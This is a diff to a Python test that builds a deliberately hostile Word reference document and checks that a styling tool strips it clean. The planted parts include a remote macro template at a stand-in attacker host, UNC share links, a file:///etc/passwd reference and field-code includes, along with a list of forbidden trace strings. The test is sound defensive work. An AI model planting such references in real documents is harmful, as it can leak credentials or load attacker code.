@@ -46,7 +46,7 @@ PLANTED = {
 # nothing of these may be left anywhere in the output
 TRACES = ["evil.example", "host\\share", "host/share", "INCLUDEPICTURE", "INCLUDETEXT", "DDEAUTO",
           "attachedTemplate", "OLEObject", "<w:object", "frameset", "vbaProject", "macroEnabled", "oleObject",
-          "DOCTYPE", "&house;", "root:", "r:link", "o:href", "/etc/passwd"]
+          "DOCTYPE", "&house;", "root:", "r:link", "o:href", "/etc/passwd", "docLocation", "documentProtection"]
 
 HEADER_PLANTS = f"""
 <w:p {NS}><w:r><w:fldChar w:fldCharType="begin"/></w:r>
@@ -55,7 +55,9 @@ HEADER_PLANTS = f"""
 <w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>
 <w:p {NS}><w:fldSimple w:instr=' INCLUDETEXT "\\\\host\\share\\text.docx" '><w:r><w:t>included</w:t></w:r>
 </w:fldSimple><w:r><w:t xml:space="preserve">Kept words </w:t></w:r>
-<w:hyperlink r:id="rIdLink"><w:r><w:t>Intranet</w:t></w:r></w:hyperlink></w:p>
+<w:hyperlink r:id="rIdLink"><w:r><w:t>Intranet</w:t></w:r></w:hyperlink>
+<w:hyperlink w:docLocation="\\\\host\\share\\other.docx" w:anchor="top"><w:r><w:t> Other</w:t></w:r></w:hyperlink>
+<w:r><w:pict><v:rect href="file:///etc/passwd" style="width:1pt;height:1pt"/></w:pict></w:r></w:p>
 <w:p {NS}><w:r><w:pict><v:shape id="logo" style="width:10pt;height:10pt">
 <v:imagedata r:id="rIdUnc" o:href="\\\\host\\share\\logo.png"/></v:shape></w:pict></w:r>
 <w:r><w:drawing><wp:inline><wp:extent cx="1" cy="1"/><wp:docPr id="77" name="linked"/><a:graphic>
@@ -98,7 +100,8 @@ def hostile_reference(path: Path) -> Path:
         _relationship("rIdUnc", "image", "file://///host/share/logo.png"),
         _relationship("rIdOle", "oleObject", "\\\\host\\share\\book.xlsx")]))
     parts["word/settings.xml"] = _add(parts["word/settings.xml"], b"</w:settings>",
-                                      f'<w:attachedTemplate {NS} r:id="rIdTpl"/>')
+                                      f'<w:attachedTemplate {NS} r:id="rIdTpl"/><w:documentProtection {NS} '
+                                      'w:edit="readOnly" w:enforcement="1"/>')
     parts["word/_rels/settings.xml.rels"] = _add(EMPTY_RELS, b"</Relationships>", _relationship(
         "rIdTpl", "attachedTemplate", "http://evil.example/house.dotm"))
     parts["word/webSettings.xml"] = _add(parts["word/webSettings.xml"], b"</w:webSettings>",
@@ -164,7 +167,7 @@ def test_a_hostile_reference_document_gives_styles_only_and_a_warning(build, cor
     assert_clean(out)
     built = docx.Document(str(out))
     header = " ".join(p.text for p in built.sections[0].header.paragraphs)
-    assert "House Name Ltd" in header and "Kept words Intranet" in header and "TLP:CLEAR" in header
+    assert "House Name Ltd" in header and "Kept words Intranet Other" in header and "TLP:CLEAR" in header
     assert "pixel" not in header and "included" not in header
     heading = built.styles["Heading 1"].element
     assert heading.find(f"{{{W}}}rPr/{{{W}}}rFonts").get(f"{{{W}}}ascii") == "Courier New"
